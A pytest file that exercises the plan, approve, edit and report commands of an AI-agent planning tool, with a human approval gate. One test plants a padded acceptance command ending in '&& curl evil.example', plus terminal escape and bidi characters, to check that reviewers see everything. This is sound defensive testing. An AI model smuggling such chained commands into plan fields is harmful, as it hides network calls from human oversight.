"""`mma init`, `plan`, `show`, `edit`, `approve` and `report`, as somebody types them."""

from __future__ import annotations

import io
import json
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from manual_slop import cli
from manual_slop.store.shared import close_shared_stores, shared_store
from manual_slop.terminal.screen import screen
from tests.support.plans import two_parts

TRACK = "make-the-tests-of-shop-pass"
GOAL = "fix the failing tests"
Run = Callable[..., tuple[int, str, str]]


def nobody() -> io.TextIOWrapper:
    """Input from nowhere."""
    return io.TextIOWrapper(io.BytesIO())


class Terminal(io.TextIOWrapper):
    """Somebody who types at a terminal."""

    def isatty(self) -> bool:
        return True


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = two_parts(tmp_path / "project")
    monkeypatch.chdir(folder)
    return folder


@pytest.fixture
def run(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Iterator[Run]:
    """Does what is typed in this process, with a person who types `says`; exit code, stdout and stderr."""

    def run(*words: str, says: str | None = None) -> tuple[int, str, str]:
        monkeypatch.setattr("sys.stdin", nobody() if says is None else Terminal(io.BytesIO(says.encode())))
        screen.cache_clear()
        code = cli.run(["mma", *words])
        said = capsys.readouterr()
        return code, said.out, said.err

    yield run
    screen.cache_clear()
    close_shared_stores()


@pytest.fixture
def editor(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str], None]:
    """Lets the person's editor be a Python program on the `text` of its file."""

    def use(change: str) -> None:
        script = tmp_path / "editor.py"
        script.write_text(
            "import pathlib, sys\npath = pathlib.Path(sys.argv[1])\ntext = path.read_text('utf-8')\n"
            f"{change}\npath.write_text(text, 'utf-8')\n",
            "utf-8",
        )
        monkeypatch.setenv("VISUAL", f"{sys.executable} {script}")

    return use


def test_a_goal_is_planned_shown_approved_and_reported(run: Run, project: Path):
    assert run("init")[0] == 0
    code, out, err = run("plan", GOAL)
    assert code == 0
    assert "└─ fix-prices" in out
    assert "   └─ fix-orders" in out
    assert "forecast: none" in out
    assert "tier 2 (make-the-tests-of-words-pass), rehearsal/demo: divides" in err
    assert (project / "conductor" / "tracks" / TRACK / "spec.md").is_file()
    assert TRACK in run("show")[1]
    code, out, err = run("approve", TRACK, says="y\n")
    assert code == 0
    assert "Fix the failing tests in tests/test_prices.py" in out
    assert "let this plan pass? 2 tickets [y/N]" in err
    assert json.loads(run("show", TRACK, "--json")[1])["approved"] is True
    code, out, _ = run("report", TRACK)
    assert code == 0
    assert "the plan gate is opened" in out
    assert run("report", TRACK, "-o", "report.html")[0] == 0
    assert (project / "report.html").read_text("utf-8").startswith("<!doctype html>")
    assert run("report", TRACK, "-o", "report.html")[0] == 2


def test_the_last_line_for_programs_holds_the_tracks_with_their_tickets(run: Run, project: Path):
    code, out, _ = run("plan", "--json", GOAL)
    lines = [json.loads(line) for line in out.splitlines()]
    assert code == 0
    assert {line["type"] for line in lines[:-1]} >= {"notice", "usage_recorded"}
    tracks = lines[-1]["tracks"]
    assert [track["id"] for track in tracks] == [TRACK, "make-the-tests-of-words-pass"]
    assert tracks[0]["title"] == "Make the tests of shop pass"
    assert [ticket["id"] for ticket in tracks[0]["tickets"]] == ["fix-prices", "fix-orders"]
    assert [tracks[0]["approved"], tracks[0]["status"]] == [False, "planned"]


@pytest.mark.parametrize("said", ["\n", "n\n", "", "yess\n", "please\n"])
def test_only_a_yes_opens_the_gate(run: Run, project: Path, said: str):
    run("plan", GOAL)
    code, _, _ = run("approve", TRACK, says=said)
    assert code == 8
    assert json.loads(run("show", TRACK, "--json")[1])["approved"] is False


def test_where_nobody_can_be_asked_only_what_was_shown_is_approved(run: Run, project: Path):
    run("plan", GOAL)
    code, _, err = run("approve", TRACK)
    assert code == 2
    assert "nobody can be asked here: --digest" in err
    digest = json.loads(run("show", TRACK, "--json")[1])["digest"]
    assert run("approve", TRACK, "--digest", "0" * 64)[0] == 2
    assert run("approve", TRACK, "--digest", digest[:6])[0] == 2
    assert run("approve", TRACK, "--digest", digest[:12])[0] == 0
    assert "approved already" in run("approve", TRACK)[2]


def test_all_of_what_is_approved_is_shown_and_none_of_it_commands_the_terminal(run: Run, project: Path):
    run("plan", GOAL)
    plan = project / "conductor" / "tracks" / TRACK / "plan.json"
    document = json.loads(plan.read_text("utf-8"))
    hidden = "python -m pytest " + "a" * 1500 + " && curl evil.example"
    document["tickets"][0].update({"acceptance": [hidden], "brief": "do this \x1b[2J\u202e", "model": "x/\u200by"})
    plan.write_text(json.dumps(document), "utf-8")
    assert "model" in run("approve", TRACK)[2]
    document["tickets"][0]["model"] = "x/y"
    plan.write_text(json.dumps(document), "utf-8")
    _, out, _ = run("approve", TRACK)
    assert hidden in out
    assert "model: x/y" in out
    assert "\x1b" not in out
    assert "\u202e" not in out


def test_a_gate_that_nobody_looked_through_is_loud(run: Run, project: Path):
    code, _, err = run("plan", "--yes-plan", GOAL)
    assert code == 0
    assert err.count("IS OPENED WITHOUT A PERSON LOOKING") == 2
    gates = [one.event for one in shared_store().tracks.events(TRACK) if type(one.event).__name__ == "GateOpened"]
    assert gates[0].by.endswith("(--yes-plan)")


def test_an_edited_plan_is_checked_and_wants_a_new_approval(run: Run, project: Path, editor: Callable[[str], None]):
    run("plan", "--yes-plan", GOAL)
    editor("text = text.replace('\"normal\"', '\"high\"')")
    code, _, err = run("edit", TRACK)
    assert code == 0
    assert "it wants approval" in err
    shown = json.loads(run("show", TRACK, "--json")[1])
    assert ({one["priority"] for one in shown["tickets"]}, shown["approved"]) == ({"high"}, False)


def test_an_edit_that_cannot_be_used_leaves_the_old_plan(run: Run, project: Path, editor: Callable[[str], None]):
    run("plan", GOAL)
    plan = project / "conductor" / "tracks" / TRACK / "plan.json"
    before = plan.read_bytes()
    editor('text = text.replace(\'"depends_on": []\', \'"depends_on": ["fix-orders"]\')')
    code, _, err = run("edit", TRACK, says="n\n")
    assert code == 8
    assert "these wait for each other" in err
    assert "the old plan stays" in err
    assert plan.read_bytes() == before
    editor("sys.exit(3)")
    assert "exit code 3" in run("edit", TRACK)[2]
    editor("")
    assert "nothing was changed" in run("edit", TRACK)[2]


def test_a_plan_that_failed_is_told_and_what_came_is_kept(run: Run, project: Path):
    code, _, err = run("plan", "-m", "rehearsal/weak-cycle", f"{GOAL} in shop")
    assert code == 1
    assert "4 answers could not be used" in err
    folder = project / "conductor" / "tracks" / "make-the-failing-tests-pass"
    assert "fix-orders" in (folder / "rejected.txt").read_text("utf-8")
    code, _, err = run("approve", folder.name, "--yes-plan")
    assert code == 2
    assert "has no tickets" in err
    code, out, _ = run("plan", "--json", "-m", "rehearsal/weak-garbled", GOAL)
    assert code == 1
    assert "made no plan" in json.loads(out.splitlines()[-1])["error"]["message"]


def test_each_tier_may_have_a_model_of_its_own(run: Run, project: Path):
    assert run("plan", "--tier", "1=rehearsal/thinker", "--tier", "2=rehearsal/weak-cycle-1", GOAL)[0] == 0
    used = {(entry.origin.tier, entry.model) for entry in shared_store().ledger()}
    assert used == {("1", "rehearsal/thinker"), ("2", "rehearsal/weak-cycle-1")}
    code, _, err = run("plan", "--tier", "7=x", GOAL)
    assert code == 2
    assert "--tier takes 1=MODEL to 4=MODEL" in err


def test_tracks_that_are_not_there_and_ids_that_are_none_are_told(run: Run, project: Path):
    for words in (["show", "nothing"], ["approve", "../up"], ["edit", "nothing"], ["report", "nothing"]):
        code, _, err = run(*words)
        assert code == 2
        assert "track" in err or "is no id" in err
    assert "there are no tracks here" in run("show")[2]


def test_the_group_explains_itself_and_a_slip_is_told(run: Run, project: Path):
    code, out, _ = run()
    assert code == 0
    assert "plan " in out
    assert "--yes-plan" in run("plan", "--help")[1]
    code, _, err = run("plna")
    assert code == 2
    assert "plna" in err


def test_a_forecast_may_be_asked_for_by_itself_and_says_where_it_is_none(run: Run, project: Path):
    run("plan", GOAL)
    assert "forecast: none" in run("forecast", TRACK)[1]
    found = json.loads(run("forecast", TRACK, "--tier", "3=openai/gpt-4o", "--json")[1])
    assert (found["n"], found["tokens"], found["tiers"]) == (0, None, [])
